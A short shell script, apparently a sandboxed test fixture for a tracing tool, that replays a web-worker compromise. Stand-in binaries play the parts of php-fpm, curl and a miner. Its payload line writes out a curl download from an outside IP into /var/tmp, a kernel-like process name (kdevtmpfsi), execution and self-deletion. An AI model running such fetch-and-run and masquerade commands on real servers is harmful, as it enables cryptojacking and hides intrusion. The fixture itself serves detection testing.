#!/bin/sh
# A server's worker is made to fetch a miner into /var/tmp and to start it under a name of the kernel.
[ "${EXECTRAIL_SANDBOX:-}" = 1 ] && [ $$ -eq 2 ] || { echo "only below: exectrail replay record-live" >&2; exit 97; }
set -eu

# A copy of the shell stands in for php-fpm, copies of true and sleep for curl and the miner.
cp /usr/bin/dash /usr/sbin/php-fpm8.2
cp /usr/bin/true /usr/local/bin/curl
cat >/var/lib/request <<'S'
sh -c 'id; uname -a; curl -o /var/tmp/kdevtmpfsi http://203.0.113.7/k; cp /usr/bin/sleep /var/tmp/kdevtmpfsi; chmod 755 /var/tmp/kdevtmpfsi; cd /var/tmp; ./kdevtmpfsi 0.1; rm -f kdevtmpfsi'
:
S
chmod 644 /var/lib/request
setpriv --reuid=33 --regid=33 --clear-groups /usr/sbin/php-fpm8.2 </var/lib/request >/dev/null
